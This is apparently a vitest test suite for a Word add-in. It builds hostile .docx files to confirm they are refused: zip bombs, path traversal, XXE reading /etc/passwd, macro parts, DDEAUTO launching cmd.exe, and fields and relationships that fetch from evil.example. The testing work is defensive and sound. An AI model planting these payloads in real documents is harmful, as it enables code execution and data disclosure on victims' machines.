import { deflateSync, strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Problem } from '../../addin/domain/problem.ts';
import type { Result } from '../../addin/domain/result.ts';
import { checkDocument } from '../../addin/documents/check-document.ts';
import { openPackage, readStories } from '../../addin/documents/docx-package.ts';
import { readDocument } from '../../addin/documents/read-document.ts';
import { compileTemplate, upgradeTemplate } from '../../addin/documents/template.ts';
import { inline, run, smallDocx } from './small-docx.ts';

/** A document from a stranger is refused with a sentence, in little time and memory, by everything that opens one. */
/** Of processor time, so that other work on the machine does not count. */
const MOST_MS = 15_000;
const MOST_MB = 700;

const OPENERS: readonly (readonly [string, (bytes: Uint8Array) => Result<unknown, Problem[]>])[] = [
  ['template', compileTemplate],
  ['upgrade', upgradeTemplate],
  ['reader', readDocument],
  [
    'check',
    (bytes) => {
      const problems = checkDocument(bytes);
      return problems.length > 0 ? { ok: false, error: problems } : { ok: true, value: undefined };
    },
  ],
];

const body = inline('Cases.CaseRef');
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const story = (content: string): Uint8Array =>
  smallDocx({
    body,
    parts: { 'word/document.xml': `<w:document xmlns:w="${W}"><w:body>${content}</w:body></w:document>` },
  });
const many = (times: number, piece: (index: number) => string): string =>
  Array.from({ length: times }, (_, index) => piece(index)).join('');

/** Where the directory entry of a part begins, and its local header. */
function entryOf(zip: Uint8Array, name: string): { readonly central: number; readonly local: number } {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.length);
  for (let at = 0; at < zip.length - 46; at += 1) {
    if (view.getUint32(at, true) !== 0x02014b50) continue;
    const length = view.getUint16(at + 28, true);
    if (new TextDecoder().decode(zip.subarray(at + 46, at + 46 + length)) === name)
      return { central: at, local: view.getUint32(at + 42, true) };
  }
  throw new TypeError(`There is no ${name}`);
}

const patched = (
  zip: Uint8Array,
  name: string,
  change: (view: DataView, central: number, local: number) => void,
): Uint8Array => {
  const { central, local } = entryOf(zip, name);
  change(new DataView(zip.buffer, zip.byteOffset, zip.length), central, local);
  return zip;
};

const zeros = (megabytes: number): Uint8Array => new Uint8Array(megabytes * 1_048_576);
/** A part of 24 MB of zeros that says it has fewer bytes. */
const understated = (says: number): Uint8Array =>
  patched(
    smallDocx({ body, parts: { 'word/media/big.bin': zeros(24) } }),
    'word/media/big.bin',
    (view, central) => {
      view.setUint32(central + 24, says, true);
    },
  );

/** The same packed bytes under many names, as in a bomb without nesting. */
function overlapping(): Uint8Array {
  const names = Array.from({ length: 400 }, (_, index) => `word/media/x${index}.bin`);
  const zip = smallDocx({ body, parts: Object.fromEntries(names.map((name) => [name, zeros(0)])) });
  const shared = entryOf(zip, 'word/document.xml');
  const view = new DataView(zip.buffer, zip.byteOffset, zip.length);
  for (const name of names) {
    const { central } = entryOf(zip, name);
    for (const [offset, bytes] of [[10, 2], [16, 4], [20, 4], [24, 4], [42, 4]] as const)
      for (let at = 0; at < bytes; at += 1) view.setUint8(central + offset + at, view.getUint8(shared.central + offset + at));
  }
  return zip;
} // prettier-ignore

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const related = (kind: string, target: string, external: boolean, part = 'document'): Uint8Array =>
  smallDocx({
    body,
    parts: {
      [`word/_rels/${part}.xml.rels`]: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE}/${kind}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`,
      ...(external ? {} : { [`word/${target}`]: 'x' }),
    },
  });

const field = (...pieces: readonly string[]): Uint8Array =>
  story(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  );

const HOSTILE: readonly (readonly [title: string, make: () => Uint8Array, rule: string])[] = [
  ['a zip bomb that says how large it is', () => smallDocx({ body, parts: { 'word/a.bin': zeros(24), 'word/b.bin': zeros(24), 'word/c.bin': zeros(24), 'word/d.bin': zeros(24) } }), 'DOC-SIZE'],
  ['a zip bomb that hides how large it is', () => understated(1_000), 'DOC-ZIP'],
  ['a zip whose entries lie over each other', overlapping, 'DOC-ZIP'],
  ['a bomb as the main part', () => patched(smallDocx({ body, parts: { 'word/document.xml': zeros(24) } }), 'word/document.xml', (view, central) => { view.setUint32(central + 24, 900, true); }), 'DOC-'],
  ['an entry with a password', () => patched(smallDocx({ body }), 'word/document.xml', (view, central) => { view.setUint16(central + 8, 1, true); }), 'DOC-ZIP'],
  ['a part with a wrong checksum', () => patched(smallDocx({ body }), 'word/document.xml', (view, central) => { view.setUint32(central + 16, 1, true); }), 'DOC-'],
  ['a directory that points past the end', () => patched(smallDocx({ body }), 'word/document.xml', (view, central) => { view.setUint32(central + 42, 0xfffffff0, true); }), 'DOC-ZIP'],
  ['path traversal', () => smallDocx({ body, parts: { 'word/../../evil.xml': 'x' } }), 'DOC-PATH'],
  ['path traversal the Windows way', () => smallDocx({ body, parts: { 'word\\..\\..\\evil.xml': 'x' } }), 'DOC-PATH'],
  ['an external entity', () => smallDocx({ body, parts: { 'word/document.xml': `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${W}">&x;</w:document>` } }), 'DOC-XML'],
  ['an external entity in a list of relationships', () => smallDocx({ body, parts: { 'word/_rels/document.xml.rels': '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships Target="&x;"/>' } }), 'DOC-XML'],
  ['macros', () => smallDocx({ body, parts: { 'word/vbaProject.bin': 'x' } }), 'DOC-MACRO'],
  ['macros that only the content type names', () => smallDocx({ body, parts: { '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' } }), 'DOC-MACRO'],
  ['a template fetched from elsewhere', () => related('attachedTemplate', 'https://evil.example/t.dotm', true, 'settings'), 'DOC-EXTERNAL'],
  ['a frame fetched from elsewhere', () => related('frame', 'https://evil.example/f.html', true), 'DOC-EXTERNAL'],
  ['data for a mail merge', () => related('mailMergeSource', 'file:///c:/people.xlsx', true, 'settings'), 'DOC-EXTERNAL'],
  ['an embedded object', () => related('oleObject', 'embeddings/o.bin', false), 'DOC-EMBEDDED'],
  ['an embedded file of another format that Word would read in', () => related('aFChunk', 'chunk.html', false), 'DOC-EMBEDDED'],
  ['a field that starts another program', () => field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '), 'DOC-EXTERNAL'],
  ['a field that fetches, its name split over runs', () => field(' INCL', 'UDEPIC', 'TURE "https://evil.example/p.png" \\d'), 'DOC-EXTERNAL'],
  ['a simple field that fetches', () => story('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example/x.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'), 'DOC-EXTERNAL'],
  ['100,000 content controls', () => story(`<w:p>${many(100_000, (index) => run(`A.F${index % 9}`))}</w:p>`), 'DOC-SIZE'],
  ['100,000 content controls one inside the other', () => story('<w:sdt><w:sdtContent>'.repeat(100_000)), 'DOC-XML'],
  ['two million elements', () => story('<w:p/>'.repeat(2_000_000)), 'DOC-XML'],
  ['20,000 attributes twice', () => story(`<w:p ${many(20_000, (index) => `a${index}="x" `)}a1="y"/>`), 'DOC-XML'],
]; // prettier-ignore

/** Much of what is allowed: whoever opens it may refuse it or take it, in time. */
const LARGE: readonly (readonly [title: string, make: () => Uint8Array])[] = [
  ['100,000 fields in double braces that are none', () => story(many(100_000, () => '<w:p><w:r><w:t>{{no field}}</w:t></w:r></w:p>'))],
  ['a paragraph of a million braces', () => story(`<w:p><w:r><w:t>${'{{'.repeat(500_000)}</w:t></w:r></w:p>`)],
  ['20,000 tracked changes', () => story(many(20_000, () => '<w:p><w:ins><w:r><w:t>x</w:t></w:r></w:ins></w:p>'))],
]; // prettier-ignore

function answerInTime(who: string, open: (typeof OPENERS)[number][1], bytes: Uint8Array): ReturnType<typeof open> {
  const start = process.cpuUsage();
  const answer = open(bytes);
  const { user, system } = process.cpuUsage(start);
  if (!answer.ok) expect(answer.error[0]?.message, who).toMatch(/^[A-Z].+\.$/);
  expect(JSON.stringify(answer.ok ? [] : answer.error.slice(0, 5))).not.toMatch(/passwd|evil\.example/);
  expect((user + system) / 1_000, who).toBeLessThan(MOST_MS);
  return answer;
} // prettier-ignore

describe('A hostile document', () => {
  it.each(HOSTILE)(
    '%s is refused with a sentence, by all who open it',
    (_title, make, rule) => {
      const bytes = make();
      for (const [who, open] of OPENERS) {
        const answer = answerInTime(who, open, bytes);
        expect(answer.ok, who).toBe(false);
        const [problem] = answer.ok ? [] : answer.error;
        expect(problem?.rule, who).toMatch(rule.endsWith('-') ? /^DOC-/ : rule);
      }
      expect(process.memoryUsage().heapUsed / 1_048_576).toBeLessThan(MOST_MB);
    },
    120_000,
  );

  it.each(LARGE)('%s is taken or refused in time, and what is refused with a sentence', (_title, make) => {
    const bytes = make();
    for (const [who, open] of OPENERS) answerInTime(who, open, bytes);
    expect(process.memoryUsage().heapUsed / 1_048_576).toBeLessThan(MOST_MB);
  }, 120_000); // prettier-ignore

  it('a part that says 30,000 bytes and holds 24 MB is never given: unpacking ends soon after what it says', () => {
    expect(deflateSync(zeros(24)).length).toBeLessThan(30_000);
    const start = process.cpuUsage();
    const opened = openPackage(understated(30_000));
    if (!opened.ok) throw new TypeError('Its other parts are sound');
    expect(opened.value.parts.get('word/media/big.bin')).toBeUndefined();
    expect(process.cpuUsage(start).user / 1_000).toBeLessThan(MOST_MS);
  });

  it('fields that fetch nothing are no danger', () => {
    for (const instruction of [' PAGE ', ' HYPERLINK "https://www.example.org" ', ' MERGEFIELD Name ', ' REF x \\h ']) {
      // The fields are read with the stories, not when the package is opened.
      const opened = openPackage(field(instruction));
      expect(opened.ok && readStories(opened.value).ok, instruction).toBe(true);
    }
    const template = compileTemplate(
      smallDocx({ body: `${body}<w:p><w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>` }),
    );
    expect(template.ok).toBe(true);
  }); // prettier-ignore

  it('a zip of 3,000 empty parts is refused before any is unpacked', () => {
    const bytes = zipSync(Object.fromEntries(Array.from({ length: 3_000 }, (_, index) => [`w/${index}`, strToU8('')])));
    const opened = openPackage(bytes);
    expect(!opened.ok && opened.error[0]?.rule).toBe('DOC-SIZE');
  }); // prettier-ignore
});
